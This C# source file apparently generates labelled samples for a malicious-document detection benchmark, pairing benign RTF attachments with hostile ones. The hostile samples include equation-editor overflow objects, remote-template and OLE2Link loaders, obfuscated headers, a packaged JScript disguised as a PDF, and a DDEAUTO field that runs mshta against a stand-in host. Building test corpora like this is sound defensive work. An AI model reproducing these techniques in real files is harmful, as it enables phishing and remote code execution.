using System.Text;
using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>Rich text with objects that break in, load or hide, and rich text as word processors write it.</summary>
internal sealed class RichText : ISampleKind
{
    public string Name => "rich-text";

    public IEnumerable<Sample> Make(Random random)
    {
        var equation = ObjectWriter.Embedded(Mixed(random, "Equation.3"), ObjectWriter.EquationObject(ObjectWriter.Equation(Filler(random, random.Next(44, 200)))));
        yield return Hostile(random, "equation with a long font name", Document(random).Object("Equation.3", RtfWriter.Digits(equation), @"\objemb\objupdate"), "equation-exploit");
        var native = ObjectWriter.Embedded(Mixed(random, "equation.3"), ObjectWriter.EquationObject(random.Bytes(random.Next(200, 900)), "\u0001Ole10Native"));
        yield return Hostile(random, "equation of another kind among disturbed digits", Hidden(random).Object(random.Chance(0.5) ? "Word.Document.8" : "", RtfWriter.Disturbed(native, random), @"\objemb\objupdate\objw1\objh1"), "equation-exploit", "rtf-obfuscated");
        yield return Hostile(random, "link to an address", Document(random).Object(Mixed(random, "OLE2Link"), RtfWriter.Digits(ObjectWriter.Embedded("OLE2Link", ObjectWriter.LinkObject(Address(random)))), @"\objautlink\objupdate\rsltpict"), "external-template");
        yield return Hostile(random, "link to an address among disturbed digits", Hidden(random).Object("", RtfWriter.Disturbed(ObjectWriter.Embedded("OLE2Link", ObjectWriter.LinkObject(Address(random))), random), @"\objautlink\objupdate"), "external-template");
        yield return Hostile(random, "template from elsewhere", Document(random).Template(Address(random)), "external-template");
        yield return Hostile(random, "field that starts a program", Document(random).Field($"{random.Pick(["DDEAUTO", "ddeauto"])} c:\\\\windows\\\\system32\\\\cmd.exe \"/c mshta {Address(random)}\""), "dynamic-data-exchange");
        var script = Encoding.ASCII.GetBytes($"var {random.Word()} = new ActiveXObject('WScript.Shell'); {random.Word()}.Run('{random.Word()}');");
        yield return Hostile(random, "packaged script", Document(random).Object("Package", RtfWriter.Digits(ObjectWriter.Embedded("Package", ObjectWriter.PackageObject($"{random.Word()}.pdf", $@"C:\Users\{random.Word()}\{random.Word()}.js", script)))), "archive-with-executable", "ole-object-package");

        yield return Benign(random, "text", Document(random));
        yield return Benign(random, "text with an equation", Document(random).Object("Equation.3", RtfWriter.Digits(ObjectWriter.Embedded("Equation.3", ObjectWriter.EquationObject(ObjectWriter.Equation(Encoding.ASCII.GetBytes(random.Pick(["Times New Roman", "Symbol", "MT Extra"]))))))));
        yield return Benign(random, "text with links and fields", Document(random).Field($"HYPERLINK \"https://www.{random.Word()}.example/\"", random.Word()).Field("PAGE", "1"));
        yield return Benign(random, "text with the template of its company", Document(random).Template(random.Pick([@"C:\Users\taro\Templates\letter.dot", @"\\fs01\templates\letter.dot", "Normal.dotm"])));
        yield return Benign(random, "text with a packaged list", Document(random).Object("Package", RtfWriter.Digits(ObjectWriter.Embedded("Package", ObjectWriter.PackageObject("list.csv", $@"C:\data\{random.Word()}.csv", Encoding.ASCII.GetBytes($"name,count\r\n{random.Word()},{random.Next(99)}\r\n"))))));
    }

    private static Sample Hostile(Random random, string name, RtfWriter document, params IReadOnlyList<string> reasons) =>
        Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{random.Pick(["rtf", "doc"])}", document.ToArray())), [AttackType.Behaviour], reasons);

    private static Sample Benign(Random random, string name, RtfWriter document) =>
        Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{random.Pick(["rtf", "doc"])}", document.ToArray())));

    private static RtfWriter Document(Random random)
    {
        var document = new RtfWriter();
        for (var paragraph = random.Next(1, 6); paragraph > 0; paragraph--)
            document.Paragraph(string.Join(' ', Enumerable.Range(0, random.Next(4, 20)).Select(_ => random.Word())) + random.Pick(["", " 請求書", " für Sie"]));
        return document;
    }

    private static RtfWriter Hidden(Random random) => new() { Header = random.Pick([@"{\rtf1\ansi", @"{\rt", $@"{{\rtf{random.Next(1, 999)}{{\*\{random.Word()}{random.Next(999)} {random.Word()}}}"]) };

    private static byte[] Filler(Random random, int length) => [.. Enumerable.Range(0, length).Select(_ => (byte)random.Next(0x20, 0x100))];

    private static string Mixed(Random random, string word) => string.Concat(word.Select(c => random.Chance(0.5) ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c)));

    private static string Address(Random random) => random.Pick([$"https://{random.Word()}.example/{random.Word()}.hta", $"http://203.0.113.{random.Next(1, 255)}/{random.Word()}.doc"]);
}
